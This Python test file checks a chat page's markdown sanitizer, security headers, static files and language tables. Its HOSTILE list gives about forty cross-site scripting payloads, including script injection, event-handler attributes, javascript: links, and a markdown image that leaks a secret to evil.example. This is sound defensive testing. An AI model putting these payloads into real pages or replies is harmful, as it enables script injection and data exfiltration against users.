"""The chat page over HTTP: headers, languages, files, keys, task templates, and replies as harmless HTML."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from instructgpt.serving.chat import page as page_module
from instructgpt.serving.chat.markdown import ATTRIBUTES, TAGS, to_html
from instructgpt.serving.chat.page import LANGUAGES, choose_language, static_files, words_of
from instructgpt.serving.keys import create_key
from instructgpt.text.tasks import TASKS, render

FOLDER = Path(page_module.__file__).parent


class Tags(HTMLParser):
    """All start tags of a piece of HTML with their attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_harmless(html: str) -> None:
    """Known tags and attributes alone; links lead to the web or to a mail, in a window of their own."""
    for tag, attributes in Tags(html).found:
        assert tag in TAGS, html
        own = ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        assert set(attributes) <= own, html
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"] or ""), html
        if tag == "a":
            assert attributes["target"] == "_blank" and "noopener" in (attributes["rel"] or "")
    assert "<!--" not in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][a]\n\n[a]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/v1/feedback)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='https://a.example' onclick='alert(1)'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><button>Continue</button></form>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object><embed src=x>",
    '```x" onload="alert(1)\n1\n```',
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|:--|\n| <script>alert(1)</script> |",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div style='position:fixed;inset:0'>cover</div>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="https://a.example" target="_self" rel="opener">x</a>',
    "<textarea></textarea><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_replies_stay_harmless(text: str) -> None:
    html = to_html(text)
    check_harmless(html)
    assert "<script" not in html and "<img" not in html and "<style" not in html


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "> ", "- ", "    ", "```", "**", "[", "](", "<", "&lt;"]), max_size=6
    )
)
def test_mixtures_of_them_do_so_too(parts: list[str]) -> None:
    check_harmless(to_html("".join(parts)))


def test_what_replies_look_like() -> None:
    html = to_html(
        "# A\n\n1. *x*\n2. **y** ~~z~~\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```\n"
    )
    for piece in ("<h1>A</h1>", "<em>x</em>", "<strong>y</strong>", "<s>z</s>", '<td align="right">2</td>'):
        assert piece in html
    assert '<pre><code class="language-python">x &lt; 1\n</code></pre>' in html
    assert to_html("a\nb") == "<p>a<br>\nb</p>\n", "a line of a reply stays a line"
    assert 'href="https://a.example/b?c=1&amp;d"' in to_html("<https://a.example/b?c=1&d>")
    assert "&lt;b&gt;" in to_html("<b>"), "tags of a reply are shown, not lost"


@pytest.mark.parametrize(
    "unit", ["> ", "- ", "[", "*a **b ", "`", "<", "![", "|a", "\\", "&", "(", "[a](", "~~"]
)
def test_a_long_hostile_text_takes_no_time(unit: str) -> None:
    """Quadratic behaviour would take minutes at this length; pytest's own time limit is the clock."""
    check_harmless(to_html(unit * (20_000 // len(unit))))


# -- the page


@pytest.fixture(scope="module")
def client(server: Any) -> httpx.Client:
    return server.client  # type: ignore[no-any-return]


def test_the_policy_allows_no_inline_script(client: httpx.Client) -> None:
    response = client.get("/")
    policy = dict(part.split(" ", 1) for part in response.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == "'none'" and policy["script-src"] == policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == "'none'"
    assert response.headers["x-content-type-options"] == "nosniff"
    for tag, attributes in Tags(response.text).found:
        assert not [name for name in attributes if name.startswith("on")], tag
        assert "style" not in attributes, tag
        if tag == "script":
            assert (
                attributes.get("src", "").startswith("/chat/static/")
                or attributes["type"] == "application/json"
            )  # type: ignore[union-attr]


def test_every_file_of_the_page_is_served(client: httpx.Client) -> None:
    html = client.get("/").text
    named = set(re.findall(r"/chat/static/([\w.]+)", html))
    for name in static_files():
        named |= set(re.findall(r'from "\./([\w.]+)"', static_files()[name].content.decode()))
    assert named <= set(static_files())
    for name in static_files():
        response = client.get(f"/chat/static/{name}")
        assert response.status_code == 200 and response.headers["x-content-type-options"] == "nosniff"
        again = client.get(f"/chat/static/{name}", headers={"If-None-Match": response.headers["etag"]})
        assert again.status_code == 304 and not again.content
    assert client.get("/chat/static/..%2Fpage.html").status_code == 404
    assert client.get("/chat/static/none.js").status_code == 404


def test_icons_that_are_used_exist() -> None:
    shapes = set(re.findall(r'symbol id="(\w+)"', (FOLDER / "static/icons.svg").read_text()))
    used = set(re.findall(r'icon\("(\w+)"\)', (FOLDER / "page.html").read_text()))
    for path in (FOLDER / "static").glob("*.js"):
        used |= set(re.findall(r'(?:icon|iconButton)\("(\w+)"', path.read_text()))
    assert used <= shapes, used - shapes


def test_no_code_of_others_is_in_the_page() -> None:
    """The page loads nothing from elsewhere, and its scripts are its own."""
    for path in (FOLDER / "static").iterdir():
        assert not re.findall(r"https?://(?!www\.w3\.org/2000/svg)", path.read_text(encoding="utf-8")), path
        assert len(path.read_text(encoding="utf-8").splitlines()) <= 350


def test_the_languages_have_equal_words() -> None:
    tables = [words_of(language) for language in LANGUAGES]
    assert tables[0].keys() == tables[1].keys()
    for name, english in tables[0].items():
        assert english.strip() and tables[1][name].strip()
        assert re.findall(r"\{\w+\}", english) == re.findall(r"\{\w+\}", tables[1][name]), name
    used = set(re.findall(r"words\.(\w+)", (FOLDER / "page.html").read_text()))
    for path in (FOLDER / "static").glob("*.js"):
        used |= set(re.findall(r"words\.(\w+)", path.read_text()))
    known = set(tables[0])
    assert used <= known, used - known
    by_name = {name for name in known if name.startswith(("reason_", "choose_"))}
    assert known <= used | by_name, known - used


def test_language_and_theme_are_remembered(client: httpx.Client) -> None:
    chinese = client.get("/", headers={"Accept-Language": "fr, zh-CN;q=0.9, en;q=0.1"}).text
    assert '<html lang="zh-Hans">' in chinese and "新对话" in chinese
    both = client.get("/", headers={"Accept-Language": "zh", "Cookie": "language=en; theme=dark"}).text
    assert '<html lang="en" data-theme="dark">' in both
    odd = client.get("/", headers={"Cookie": 'language="><script>; theme=x'}).text
    assert '<html lang="en">' in odd and "><script>;" not in odd


def test_the_language_that_a_browser_asks_for() -> None:
    assert choose_language(None, "de-DE,de;q=0.9,zh-TW;q=0.8,en;q=0.7") == "zh"
    assert choose_language(None, "en-GB,zh;q=0.9") == "en"
    assert choose_language(None, "nonsense;q=x,,") == choose_language(None, "") == "en"
    assert choose_language("zh", "en") == "zh"


def test_markdown_and_tasks_over_http(client: httpx.Client) -> None:
    response = client.post("/chat/markdown", json={"texts": ["*a*", "<script>"]})
    assert response.json() == {"html": ["<p><em>a</em></p>\n", "<p>&lt;script&gt;</p>\n"]}
    listed = client.get("/chat/tasks", params={"language": "zh"}).json()["tasks"]
    assert [task["name"] for task in listed] == list(TASKS)
    body = {"language": "zh", "fields": {"text": "下雨了。"}}
    messages = client.post("/chat/tasks/summarize", json=body).json()["messages"]
    assert messages == [
        {"role": m.role, "content": m.content} for m in render("summarize", "zh", text="下雨了。")
    ]
    wrong = client.post("/chat/tasks/summarize", json={"fields": {}})
    assert wrong.status_code == 400 and "needs text" in wrong.json()["error"]["message"]
    assert client.post("/chat/tasks/none", json={"fields": {}}).status_code == 400
    many = client.post("/chat/markdown", json={"texts": ["a"] * 65})
    assert many.status_code == 400 and "texts" in many.json()["error"]["message"]


def test_the_page_is_no_part_of_the_api(client: httpx.Client) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    assert not [path for path in paths if path == "/" or path.startswith("/chat")]


def test_rendering_asks_for_a_key_where_there_are_keys(start_server: Any, tmp_path: Path) -> None:
    _, key = create_key(tmp_path / "keys.json", "ann")
    server = start_server(keys=str(tmp_path / "keys.json"), rate=1)
    assert server.client.get("/").status_code == 200, "the page itself asks for the key"
    assert server.client.get("/chat/static/chat.js").status_code == 200
    assert server.post("/chat/markdown", {"texts": ["a"]}).status_code == 401
    for _ in range(5):  # more than the rate allows requests that draw tokens
        found = server.post("/chat/markdown", {"texts": ["a"]}, authorization=f"Bearer {key}")
        assert found.status_code == 200


def test_no_chat_if_that_is_said(start_server: Any) -> None:
    assert start_server(chat=False).client.get("/").status_code == 404


def test_the_words_in_the_page_can_end_no_script(client: httpx.Client) -> None:
    html = client.get("/").text
    data = re.search(r'<script type="application/json" id="page-data">(.*?)</script>', html, re.DOTALL)
    assert data is not None and "<" not in data[1]
    assert json.loads(data[1])["words"] == words_of("en")
